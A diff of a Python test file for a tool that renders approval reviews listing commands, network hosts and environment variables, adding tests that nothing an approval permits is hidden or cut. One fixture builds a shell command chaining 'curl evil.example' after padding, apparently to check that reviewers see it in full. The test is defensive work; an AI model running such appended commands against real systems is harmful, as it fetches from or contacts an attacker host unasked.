@@ -11,9 +11,8 @@ import pytest
 from animus.domain.canonical import decode_strictly
 from animus.domain.digests import format_digest
 from animus.domain.review_pages import POLICY, write_page
-from animus.domain.review_sections import write_review
 from animus.domain.review_texts import WIDTH, write_text
-from animus.domain.reviews import MAX_SHOWN, Listing, read_review, seal_review
+from animus.domain.reviews import MAX_SHOWN, Listing, Review, read_review
 from animus.domain.visible_texts import visible
 from tests.support.reviews import (
     CASES,
@@ -21,9 +20,13 @@ from tests.support.reviews import (
     MANY,
     VECTORS,
     changed,
+    facts_of,
     first_of_its_kind,
     hostile,
+    one_gate,
+    plan_of,
     sealed,
+    sealed_of,
     written,
 )
 
@@ -50,9 +53,15 @@ class Tags(HTMLParser):
 
 
 def listing_of(case: str, *, beginning: str) -> Listing:
-    sections = sealed(case).document.sections
+    return listing_in(sealed(case).document, beginning=beginning)
+
+
+def listing_in(review: Review, *, beginning: str) -> Listing:
     (found,) = [
-        one for section in sections for one in section.listings if one.title.startswith(beginning)
+        one
+        for section in review.sections
+        for one in section.listings
+        if one.title.startswith(beginning)
     ]
     return found
 
@@ -80,7 +89,7 @@ def test_the_sections_are_in_the_order_of_reading() -> None:
 def test_another_fact_is_another_digest() -> None:
     facts = first_of_its_kind()
     other = replace(facts, asked=replace(facts.asked, ticket="RISK-43"))
-    assert seal_review(write_review(facts)).digest != seal_review(write_review(other)).digest
+    assert sealed_of(facts).digest != sealed_of(other).digest
 
 
 def test_a_flipped_byte_is_noticed() -> None:
@@ -140,7 +149,7 @@ def test_a_page_is_made_of_our_tags_alone(case: str) -> None:
 
 
 def test_hostile_text_is_kept_as_it_was_said_and_shown_spelled_out() -> None:
-    review = seal_review(write_review(hostile()))
+    review = sealed_of(hostile())
     request = review.document.sections[1]
     assert next(item.value for item in request.items if item.label == "reason") == HOSTILE
     shown = re.sub(r"\s+", "", write_text(review))
@@ -163,5 +172,37 @@ def test_words_of_all_the_world_stay_as_they_are() -> None:
 
 
 def test_a_document_is_read_back_as_it_was_written() -> None:
-    review = seal_review(write_review(changed()))
+    review = sealed_of(changed())
     assert decode_strictly(review.canonical) == review.document.content()
+
+
+def test_nothing_that_a_yes_permits_is_cut() -> None:
+    many = [f"h{number:03}" for number in range(MAX_SHOWN + 9)]
+    script = f"echo {'x' * 5_000} ; curl evil.example"
+    train = {
+        "run": ["sh", "-c", script],
+        "egress": [f"{name}.example:443" for name in many],
+        "env": {name.upper(): "y" * 5_000 + name for name in many},
+    }
+    judgement = one_gate()
+    review = sealed_of(facts_of(plan_of(judgement, train=train), judgement)).document
+    hosts = listing_in(review, beginning="Network")
+    assert [one.label for one in hosts.shown] == [f"{name}.example:443" for name in many]
+    assert script in str(listing_in(review, beginning="Commands").shown)
+    variables = listing_in(review, beginning="Environment variables").shown
+    assert [str(one.value)[-4:] for one in variables] == many
+
+
+@pytest.mark.parametrize(
+    ("one", "other"), [(["-c", "a b"], ["-c", "a", "b"]), (["a", ""], ["a"]), (["'a'"], ["a"])]
+)
+def test_two_commands_never_look_the_same(one: list[str], other: list[str]) -> None:
+    judgement = one_gate()
+    shown = [
+        listing_in(
+            sealed_of(facts_of(plan_of(judgement, train={"run": run}), judgement)).document,
+            beginning="Commands",
+        )
+        for run in (["sh", *one], ["sh", *other])
+    ]
+    assert shown[0] != shown[1]
